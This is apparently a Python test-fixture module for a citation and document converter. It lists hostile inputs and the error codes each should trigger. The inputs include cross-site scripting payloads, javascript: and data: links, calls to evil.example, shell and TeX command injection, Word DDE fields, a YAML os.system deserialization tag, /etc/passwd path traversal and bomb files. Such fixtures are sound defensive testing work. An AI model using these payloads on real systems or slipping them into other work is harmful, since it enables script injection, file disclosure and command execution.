"""Hostile inputs, as small data: what each is, and what must become of it.

`SCRIPTS` are set into every place of an article that takes text; `LINKS`, `ATTRIBUTES` and `RAW`
stand in its body; `FILES` ask for what lies elsewhere; `DRAWINGS` are SVG.
"""

from __future__ import annotations

SCRIPTS = {
    "script": "<script>alert('{}')</script>",
    "script in capitals": "<ScRiPt SRC=http://evil.example/{}.js></sCrIpT>",
    "end of a script": "</script><script>alert('{}')//",
    "end of a title": "</title></head><body onload=alert('{}')>",
    "end of an attribute": "\" onmouseover=\"alert('{}')\" x=\"",
    "end of another": "' autofocus onfocus='alert(`{}`)' x='",
    "handler": "<img src=x onerror=alert('{}')>",
    "handler of SVG": "<svg onload=alert('{}')>",
    "frame": "<iframe src=http://evil.example/{}></iframe>",
    "object": "<object data=http://evil.example/{}></object>",
    "form": "<form action=http://evil.example/{}><button formaction=javascript:x>",
    "refresh": "<meta http-equiv=refresh content=0;url=http://evil.example/{}>",
    "base": "<base href=http://evil.example/{}>",
    "style sheet": "<link rel=stylesheet href=http://evil.example/{}.css>",
    "style": "<style>a{{background:url(http://evil.example/{})}}</style>",
    "link": "<a href=javascript:alert(1)>{}</a>",
    "MathML": "<math href=javascript:alert(1)>{}</math>",
    "comment": "<!-- {} --!><script>alert(1)</script>",
    "section": "<![CDATA[ {} ]]><script>alert(1)</script>",
    "instruction": "<?php echo '{}' ?>",
    "entities": "&lt;script&gt;alert('{}')&lt;/script&gt;",
    "template": "$if(title)${}$endif$ ${{title}}",
    "shell": "$(touch /tmp/{}) `touch x`",
    "TeX": "\\input{{/etc/passwd}} \\write18{{touch {}}}",
    "Word's field": "{{ DDEAUTO c:\\\\windows\\\\cmd.exe {} }} {{ INCLUDETEXT c:\\\\x }}",
}  # fmt: skip
"""What a script, or what brings one, may look like. ``{}`` is a mark that must arrive as text."""

PLACES = (
    "title", "subtitle", "name", "affiliation", "note", "keyword", "abstract", "notice",
    "acknowledgements", "book title", "book author", "publisher", "event", "venue",
)  # fmt: skip

LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#115;cript:alert(1)", "<java\tscript:alert(1)>",
    "<  javascript:alert(1)>", "%20javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml;base64,PHN2Zz4=", "vbscript:x", "file:///etc/passwd",
    "//evil.example/x", "\\\\\\\\evil.example\\\\share", "ms-word:ofe|u|http://evil.example/x.docx", "blob:http://x/y",
    "view-source:http://x", "livescript:x", "mocha:x", "jar:http://x!/y", "search-ms:query=x",
)  # fmt: skip
"""Targets of links. Their words stay, the link does not: CIT433."""

ATTRIBUTES = (
    'onclick="alert(1)"', 'ONCLICK="alert(1)"', 'data-onclick="alert(1)"', 'style="background:url(http://evil.example/a)"',
    'style="background:\\\\75rl(http://evil.example/b)"', 'style="x:expression(alert(1))"', 'style="@import url(x)"',
    'href="javascript:alert(1)"', 'src="http://evil.example/c"', 'srcdoc="<script>"', 'formaction="javascript:x"',
    'background="http://evil.example/d"', 'autofocus="x"', 'xlink:href="http://evil.example/e"', 'ping="http://evil.example/f"',
    'poster="http://evil.example/g"', 'action="http://evil.example/h"', 'data="http://evil.example/i"',
)  # fmt: skip
"""Attributes as Markdown writes them. They are left out: CIT433."""

RAW = (
    "<script>alert('{}')</script>", "<iframe src='http://evil.example/{}'></iframe>", "<object data='{}'></object>",
    "<embed src='http://evil.example/{}'>", "<form action='http://evil.example/{}'>", "<base href='http://evil.example/{}'>",
    "<meta http-equiv='refresh' content='0;url=http://evil.example/{}'>", "<link rel=stylesheet href='http://evil.example/{}'>",
    "<style>a{{background:url(http://evil.example/{})}}</style>", "<svg onload=alert('{}')></svg>",
    "\\input{{/etc/passwd}} {}", "\\write18{{touch {}}}", "\\directlua{{os.execute('{}')}}", "\\openin5=/etc/passwd {}",
    "`<script>alert('{}')</script>`{{=html}}", "`<w:instrText>DDE {}</w:instrText>`{{=openxml}}", "`\\input{{{}}}`{{=latex}}",
)  # fmt: skip
"""Raw pieces of the body. Of one's own left out with CIT411, of strangers shown as text."""

FRONT_FILES = (
    ("bibliography: ../secret.bib", "CIT201"),
    ("bibliography: /etc/passwd", "CIT201"),
    ("bibliography: link.bib", "CIT201"),
    ("bibliography: file:///etc/passwd", "CIT201"),
    ("bibliography: https://evil.example/x.bib", "CIT201"),
    ('bibliography: "a\\0b.bib"', "CIT201"),
    (f"bibliography: {'a' * 5000}.bib", "CIT201"),
    ("bibliography: loop.bib", "CIT201"),
    ("csl: ../secret.csl", "CIT501"),
    ("csl: /etc/passwd", "CIT501"),
    ("csl: https://evil.example/x.csl", "CIT502"),
    ("csl: link.csl", "CIT501"),
    ("csl: entity.csl", "CIT503"),
    ("csl: parent.csl", "CIT504"),
    ("csl: bomb.csl", "CIT503"),
    ("house-style: ../../etc", "CIT511"),
    ("house-style: /etc", "CIT511"),
    ("house-style: ..", "CIT511"),
    ("reference-doc: ../secret.docx", "CIT525"),
    ("reference-doc: /etc/passwd", "CIT525"),
    ("reference-doc: link.docx", "CIT525"),
    ("reference-doc: macros.docx", "CIT523"),
    ("reference-doc: entity.docx", "CIT523"),
    ("reference-doc: zipbomb.docx", "CIT523"),
    ("reference-doc: remote.docx", "CIT523"),
    ('title: !!python/object/apply:os.system ["x"]', "CIT108"),
    ("title: !include /etc/passwd", "CIT108"),
    ("title: !!binary aGVsbG8=", "CIT108"),
    ("header-includes: <script>alert(1)</script>", "CIT110"),
    ("include-in-header: ../secret.bib", "CIT110"),
    ("include-before: <script>alert(1)</script>", "CIT110"),
    ("css: http://evil.example/x.css", "CIT110"),
    ("template: /etc/passwd", "CIT110"),
    ("filters: [/tmp/evil.lua]", "CIT110"),
)
"""A line of the front matter, and the code that it is told of with."""

PICTURES = (
    ("../secret.png", "outside"), ("/etc/passwd", "outside"), ("link.png", "outside"), ("folder/secret.png", "outside"),
    ("file:///etc/passwd", "inside the project"), ("http://evil.example/x.png", "network"), ("//evil.example/x.png", "outside"),
    ("ftp://evil.example/x.png", "network"), ("data:image/png;base64,AAAA", "not exist"), ("a%00b.png", "not exist"),
    ("loop.png", "no name"), (f"{'a' * 300}.png", "no name"), ("huge.png", "too many pixels"), ("truncated.png", "not an image"),
    ("folder", "outside"), ("wide.svg", "wide or high"), ("use.svg", "repeats"), ("entities.svg", "not an SVG"),
    ("external.svg", "other files"), ("deep.svg", "not an SVG"), ("text.png", "not an image"),
)  # fmt: skip
"""Targets of pictures, and a word of what CIT402 says of them."""

DRAWINGS = (
    "<script>alert(1)</script>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<rect onclick='alert(1)' width='1'/>", "<image href='http://evil.example/x.png'/>",
    "<image xlink:href='file:///etc/passwd'/>", "<image href='//evil.example/x'/>", "<use href='http://evil.example/x.svg#a'/>",
    "<image href='data:image/svg+xml;base64,PHN2Zz4='/>", "<a href='javascript:alert(1)'><text>x</text></a>",
    "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='http://evil.example'/></foreignObject>",
    "<foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/></foreignObject>",
    "<style>@import url(http://evil.example/x.css);</style>", "<style>rect{fill:url(http://evil.example/x)}</style>",
    "<style>rect{fill:\\75rl(http://evil.example/x)}</style>", "<rect style='fill:url(http://evil.example/x#a)'/>",
    "<rect filter='url(http://evil.example/x#f)'/>", "<animate attributeName='href' to='javascript:alert(1)'/>",
    "<set attributeName='onclick' to='alert(1)'/>", "<style>@font-face{src:url(http://evil.example/f.woff)}</style>",
    "<?xml-stylesheet href='http://evil.example/x.css'?>", "<handler>alert(1)</handler>", "<g xml:base='http://evil.example/'/>",
)  # fmt: skip
"""Parts of drawings. They are left out: CIT432."""
